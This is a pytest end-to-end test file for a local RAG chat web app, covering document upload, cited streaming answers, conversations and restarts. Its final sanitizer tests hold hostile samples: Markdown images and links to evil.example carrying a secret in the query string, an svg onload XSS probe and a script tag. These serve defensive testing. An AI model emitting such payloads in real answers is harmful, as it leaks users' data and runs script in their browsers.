"""The web app driven through gradio_client, against `ragchat serve` running for real.

Real parts throughout: Chroma on disk, the bundled embedder and the built-in llama.cpp model
(short answers). One app serves the module; the tests run in file order and build on each other
(upload, ask, follow up, Chinese, stop, regenerate, conversations, re-index, delete). The
first-run, model picker and restart test has an app, a store and a fake Ollama of its own.

The pure rendering rules (safe Markdown, highlighting) are tested at the end without a server.
"""

from __future__ import annotations

import re
import time

import httpx
import pytest
from gradio_client import Client, handle_file

from conftest import PDFS, ZH_TEXT
from ragchat.answer.sanitize import safe_markdown
from ragchat.ui import render

pytestmark = [pytest.mark.slow]  # a served app and the real models

DEMO = PDFS / "mineru__demo3.pdf"
SEED = ZH_TEXT
QUESTION = "How does TableFormer incorporate the structural biases of tables?"  # the small test model cites its answer
CITE = re.compile(r"\[(\d+)\]")


# ---- helpers -------------------------------------------------------------------------------------


def wait_ingested(client: Client, timeout: float = 300) -> dict:
    """Poll /ingest_status until this session's files are finished; returns the last status and
    every (source, stage) pair seen on the way."""
    seen: set[tuple[str, str]] = set()
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        status = client.predict(api_name="/ingest_status")
        seen |= {(f["source"], f["stage"]) for f in status["files"]}
        if not status["active"]:
            status["seen"] = seen
            return status
        time.sleep(0.5)
    raise AssertionError(f"ingestion did not finish in {timeout} s: {status}")


def text_of(message: dict) -> str:
    content = message["content"]
    if isinstance(content, str):
        return content
    return "".join(part.get("text", "") for part in content if isinstance(part, dict))


def ask(client: Client, question: str, api_name: str = "/ask") -> tuple[list[str], tuple]:
    """Submit a question; returns the assistant text of every streamed update and the final outputs
    (textbox, chatbot, sources panel, conversation list, model badge, notice)."""
    job = client.submit(question, api_name=api_name) if api_name == "/ask" else client.submit(api_name=api_name)
    texts = []
    for out in job:
        chatbot = out[1]
        if isinstance(chatbot, list) and chatbot and chatbot[-1]["role"] == "assistant":
            texts.append(text_of(chatbot[-1]))
    return texts, job.result()


def current_conversation(client: Client) -> dict:
    return client.predict(api_name="/list_conversations")[0]


def messages(client: Client, cid: str) -> list[dict]:
    return client.predict(cid, api_name="/conversation_messages")


def document(client: Client, name: str) -> dict:
    docs = {d["name"]: d for d in client.predict(api_name="/list_documents")}
    assert name in docs, f"{name} is not in the library: {sorted(docs)}"
    return docs[name]


# ---- fixtures ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def server(launch_app):
    return launch_app()


@pytest.fixture(scope="module")
def client(server):
    return Client(server.url, verbose=False)


@pytest.fixture(scope="module")
def ingested(server, client, tmp_path_factory):
    """Upload a PDF, a Chinese text and a broken file at once; ask a question meanwhile."""
    folder = tmp_path_factory.mktemp("uploads")
    bad = folder / "broken.pdf"
    bad.write_bytes(b"PK\x03\x04" + b"\0" * 200)  # a ZIP archive named .pdf
    out = client.predict([handle_file(str(DEMO)), handle_file(str(SEED)), handle_file(str(bad))], "default",
                         api_name="/upload")
    upload_panel = out[1]

    # the chat stays usable while the files ingest: another session asks and gets an answer
    other = Client(server.url, verbose=False)
    started = time.monotonic()
    _, final = ask(other, "Is anything there yet?")
    chat_seconds = time.monotonic() - started
    busy_while_chatting = client.predict(api_name="/ingest_status")["active"]

    status = wait_ingested(client)
    return {"panel": upload_panel, "status": status, "files": {f["source"]: f for f in status["files"]},
            "chat_answer": text_of(final[1][-1]), "chat_seconds": chat_seconds, "busy": busy_while_chatting}


# ---- ingestion -----------------------------------------------------------------------------------


def test_upload_reports_each_file_and_one_bad_file_stops_nothing(ingested):
    for name in ("mineru__demo3.pdf", SEED.name, "broken.pdf"):
        assert name in ingested["panel"], "the upload answer lists every file at once"
    files = ingested["files"]
    assert files["mineru__demo3.pdf"]["stage"] == "done" and files["mineru__demo3.pdf"]["total"] > 10
    assert files[SEED.name]["stage"] == "done"
    assert files["broken.pdf"]["stage"] == "failed"
    assert "ZIP" in files["broken.pdf"]["message"], files["broken.pdf"]
    stages = {stage for _, stage in ingested["status"]["seen"]}
    assert stages & {"queued", "reading", "embedding"}, "progress was reported before the end"


def test_chat_stays_usable_while_files_ingest(ingested):
    assert ingested["chat_answer"].strip()
    assert ingested["busy"], "the question was answered while the upload was still running"
    assert ingested["chat_seconds"] < 30


def test_library_lists_documents(client, ingested):
    docs = {d["name"]: d for d in client.predict(api_name="/list_documents")}
    assert docs["mineru__demo3.pdf"]["pages"] == 10 and docs["mineru__demo3.pdf"]["chunks"] > 10
    assert docs["mineru__demo3.pdf"]["status"] == "done"
    assert docs["broken.pdf"]["status"] == "failed" and docs["broken.pdf"]["error"]
    table, picker, scope, collections, chatbot = client.predict([], api_name="/library")
    rows = {r[0]: r for r in table["data"]}
    assert set(rows) >= {"mineru__demo3.pdf", SEED.name, "broken.pdf"}
    assert table["headers"] == render.LIBRARY_HEADERS
    assert rows["broken.pdf"][-1].startswith("failed: ")
    assert "Ask about your 2 documents" in chatbot["placeholder"]
    assert {v for _, v in picker["choices"]} == {d["id"] for d in docs.values()}
    searchable = {v for _, v in scope["choices"]}
    assert searchable == {"all", f"doc:{docs['mineru__demo3.pdf']['id']}", f"doc:{docs[SEED.name]['id']}"}
    assert [v for _, v in collections["choices"]] == ["default"]


# ---- chat ----------------------------------------------------------------------------------------


def test_answer_streams_with_citations_and_sources(server, client, ingested):
    client.predict(api_name="/new_chat")
    texts, final = ask(client, QUESTION)
    streamed = [t for t in texts if t.endswith("▍")]
    assert len(streamed) >= 3, f"tokens were not streamed: {texts}"
    assert len(set(streamed)) == len(streamed) and len(streamed[-1]) > len(streamed[0])

    answer = text_of(final[1][-1])
    assert CITE.search(answer), f"no [n] marker in {answer!r}"
    panel = final[2]
    assert "Cited sources" in panel and "mineru__demo3.pdf" in panel and "p. " in panel
    assert "SmolLM2" in final[4], "the page shows which model answered"

    cid = current_conversation(client)["id"]
    saved = messages(client, cid)
    assert [m["role"] for m in saved] == ["user", "assistant"]
    cited = saved[-1]["sources"]
    assert cited and all(s["source"] == "mineru__demo3.pdf" for s in cited)
    for s in cited:
        assert f"[{s['id']}]" in saved[-1]["content"]

    # clicking a source: the passage is highlighted in the text of its page
    first = cited[0]
    viewer = client.predict(first["id"], api_name="/show_source")
    assert '<mark class="rc-hl"' in viewer and f"p. {first['page']}" in viewer
    marked = re.search(r'<mark class="rc-hl"[^>]*>(.*?)</mark>', viewer, re.S).group(1)
    assert marked.split()[:5] == render.html.escape(first["text"]).split()[:5]
    link = re.search(r'href="(ragchat/original/[0-9a-f]+)#page=(\d+)"', viewer)
    assert link and int(link.group(2)) == first["page"]
    pdf = httpx.get(server.url + link.group(1))
    assert pdf.status_code == 200 and pdf.headers["content-type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF")


def test_follow_up_uses_the_conversation(client, ingested):
    cid = current_conversation(client)["id"]
    texts, final = ask(client, "How does it handle row and column order?")
    saved = messages(client, cid)
    assert [m["role"] for m in saved] == ["user", "assistant"] * 2
    assert len(final[1]) == 4, "the chat shows the whole conversation"
    # the question used for retrieval carries the earlier one
    assert "TableFormer" in saved[-1]["meta"]["question"]


def test_search_can_be_limited_to_chosen_documents(client, ingested):
    seed = document(client, SEED.name)
    client.predict(api_name="/new_chat")
    job = client.submit(QUESTION, [f"doc:{seed['id']}"], api_name="/ask")
    job.result()
    saved = messages(client, current_conversation(client)["id"])[-1]
    used = saved["sources"] + saved["meta"].get("retrieved", [])
    assert all(s["doc_id"] == seed["id"] for s in used), used
    assert "mineru__demo3.pdf" not in saved["content"]


def test_chinese_end_to_end(client, ingested):
    client.predict(api_name="/new_chat")
    texts, final = ask(client, "Skywork-13B 包含哪两大版本？")
    answer = text_of(final[1][-1])
    assert answer.strip()
    cid = current_conversation(client)["id"]
    assert current_conversation(client)["title"].startswith("Skywork-13B 包含")
    saved = messages(client, cid)[-1]
    retrieved = saved["meta"]["retrieved"]
    assert retrieved and retrieved[0]["source"] == SEED.name
    assert SEED.name in final[2]
    viewer = client.predict(retrieved[0]["id"], api_name="/show_source")
    marked = re.search(r'<mark class="rc-hl"[^>]*>(.*?)</mark>', viewer, re.S).group(1)
    assert "Skywork" in marked and re.search(r"[\u4e00-\u9fff]", marked)


def test_stop_keeps_the_partial_answer(client, ingested):
    client.predict(api_name="/new_chat")
    job = client.submit("Explain how TableFormer encodes a table, step by step.", api_name="/ask")
    deadline = time.monotonic() + 60
    while not job.outputs() and time.monotonic() < deadline:
        time.sleep(0.02)
    assert job.outputs(), "the answer never started"
    assert job.cancel()
    cid = current_conversation(client)["id"]
    deadline = time.monotonic() + 30
    saved = messages(client, cid)
    while len(saved) < 2 and time.monotonic() < deadline:
        time.sleep(0.2)
        saved = messages(client, cid)
    assert [m["role"] for m in saved] == ["user", "assistant"]
    assert saved[-1]["meta"]["partial"] is True


def test_regenerate_replaces_the_last_answer(client, ingested):
    cid = current_conversation(client)["id"]
    before = messages(client, cid)
    assert before[-1]["meta"]["partial"] is True, "this follows the stopped answer"
    texts, final = ask(client, None, api_name="/regenerate")
    after = messages(client, cid)
    assert len(after) == len(before)
    assert after[-2]["content"] == before[-2]["content"]
    assert after[-1]["role"] == "assistant" and after[-1]["content"].strip()
    assert not after[-1]["meta"]["partial"], "the chat goes on after a stop"
    assert texts, "the new answer was streamed"


def test_conversations_open_rename_delete(client, ingested):
    convs = client.predict(api_name="/list_conversations")
    assert len(convs) >= 3
    target = [c for c in convs if c["title"].startswith("How does TableFormer")][-1]  # the first one (newest first)
    chatbot, *_ = client.predict(target["id"], api_name="/open_chat")
    assert len(chatbot) == 4 and text_of(chatbot[0]) == QUESTION

    client.predict("TableFormer notes", api_name="/rename_chat")
    titles = {c["id"]: c["title"] for c in client.predict(api_name="/list_conversations")}
    assert titles[target["id"]] == "TableFormer notes"

    client.predict(api_name="/delete_chat")
    assert target["id"] not in {c["id"] for c in client.predict(api_name="/list_conversations")}


def test_reindex_a_document(client, ingested):
    seed = document(client, SEED.name)
    client.predict([seed["id"]], api_name="/reindex_documents")
    status = wait_ingested(client)
    assert any(f["source"] == SEED.name and f["stage"] == "done" for f in status["files"][-1:])
    again = document(client, SEED.name)
    assert again["status"] == "done" and again["chunks"] == seed["chunks"] and again["id"] == seed["id"]


def test_deleted_document_is_no_longer_cited(server, client, ingested):
    demo = document(client, "mineru__demo3.pdf")
    client.predict([demo["id"]], api_name="/delete_documents")
    assert "mineru__demo3.pdf" not in {d["name"] for d in client.predict(api_name="/list_documents")}
    assert httpx.get(f"{server.url}ragchat/original/{demo['id']}").status_code == 404

    client.predict(api_name="/new_chat")
    _, final = ask(client, QUESTION)
    saved = messages(client, current_conversation(client)["id"])[-1]
    used = saved["sources"] + saved["meta"].get("retrieved", [])
    assert all(s["doc_id"] != demo["id"] for s in used)
    assert "mineru__demo3.pdf" not in final[2]


# ---- first run, and a restart --------------------------------------------------------------------


def test_first_run_model_picker_and_restart(launch_app):
    from ollama_fake import FakeOllama

    with FakeOllama(models=["llama3.2", "qwen2.5:7b"]) as ollama:
        server = launch_app(env={"RAGCHAT_LLM__PROVIDER": "auto", "RAGCHAT_LLM__OLLAMA_URL": ollama.url})
        client = Client(server.url, verbose=False)
        # the picker lists Ollama's models (/api/tags) and the built-in ones; Ollama answers
        picker, badge, notice = client.predict("auto", api_name="/models")
        assert {"auto", "builtin:auto", "builtin:qwen2.5-1.5b", "llama3.2:latest", "qwen2.5:7b"} <= {v for _, v in picker["choices"]}
        assert "llama3.2" in badge and "Ollama" in badge
        assert notice["visible"] is False

        # an empty store explains what to do, and a question gets a helpful answer
        *_, chatbot = client.predict([], api_name="/library")
        assert "Welcome to ragchat" in chatbot["placeholder"]
        _, final = ask(client, "What is in my documents?")
        answer = text_of(final[1][-1])
        assert "no documents" in answer.lower() and "drop" in answer.lower()
        client.predict("My first chat", api_name="/rename_chat")
        cid = current_conversation(client)["id"]
        before = messages(client, cid)
        server.stop()  # closes the engine and releases the store

    # Ollama is gone: the built-in model answers and a notice says how to start Ollama
    server.start()
    client = Client(server.url, verbose=False)
    picker, badge, notice = client.predict("auto", api_name="/models")
    assert {v for _, v in picker["choices"]} == {"auto", "builtin:auto", "builtin:qwen2.5-0.5b", "builtin:qwen2.5-1.5b",
                                                  "builtin:smollm2-135m"}
    assert "built-in" in badge and "SmolLM2" in badge and "automatically" not in badge  # as configured
    assert notice["visible"] is True and "ollama serve" in notice["value"]
    # the model picked for this machine: the badge names it and says it was picked automatically, and why
    from ragchat.llm.models import BUILTIN_MODELS, auto_builtin

    picker, badge, notice = client.predict("builtin:auto", api_name="/models")
    assert picker["value"] == "builtin:auto" and notice["visible"] is False
    assert BUILTIN_MODELS[auto_builtin()[0]].title in badge and "picked automatically" in badge
    assert "physical core" in badge  # the reason, in the badge's tooltip

    # the conversation survived the restart
    convs = client.predict(api_name="/list_conversations")
    assert [(c["id"], c["title"]) for c in convs] == [(cid, "My first chat")]
    assert messages(client, cid) == before
    chatbot, *_ = client.predict(cid, api_name="/open_chat")
    assert [m["role"] for m in chatbot] == ["user", "assistant"]
    assert text_of(chatbot[0]) == "What is in my documents?"


# ---- rendering rules, without a server ------------------------------------------------------------


@pytest.mark.parametrize("markdown, leaked", [
    ("See ![x](https://evil.example/a.png?q=secret) now", "https://evil.example/a.png?q=secret"),
    ('A [link](https://evil.example/x "t") here.', "https://evil.example/x"),
    ("bare https://evil.example/p?q=1 and www.evil.example ok", "https://evil.example/p?q=1"),
    ("<img src=https://evil.example/x.png> and <https://evil.example/auto>", "https://evil.example/x.png"),
    ("[![img](https://evil.example/i.png)](https://evil.example/l)", "https://evil.example/l"),
    ("[ref]: https://evil.example/ref\n\nuse [x][ref]", "https://evil.example/ref"),
    ("<svg onload=alert(1)><a href='https://evil.example'>x</a>", "https://evil.example"),
])
def test_answer_markdown_has_no_live_external_links(markdown, leaked):
    import markdown_it

    out = safe_markdown(markdown, bare_urls=True)
    # CommonMark with raw HTML allowed: what a careless renderer would make of the answer
    html = markdown_it.MarkdownIt("commonmark", {"html": True}).render(out)
    assert "<img" not in html and "<a " not in html and "<svg" not in html
    assert leaked.split("://")[-1] in out, "the URL stays visible as text"


def test_answer_markdown_keeps_code_tables_math_and_citations():
    text = ("TableFormer predicts answers [1] and cells [2].\n\n```python\nx = '<b>'  # https://keep.me\n```\n\n"
            "| a | b |\n|---|---|\n| 1 | 2 |\n\n$$ a^2 + b^2 = c^2 $$ and `code`")
    assert safe_markdown(text, bare_urls=True) == text


def test_passage_highlight_escapes_document_text():
    source = {"id": 1, "source": "<b>x.txt", "page": None, "text": "<script>bad()</script>", "start": 6, "end": 28}
    out = render.passage_html(source, "Intro <script>bad()</script> outro")
    assert "<script>" not in out and "&lt;script&gt;" in out and '<mark class="rc-hl"' in out
    assert "&lt;b&gt;x.txt" in out
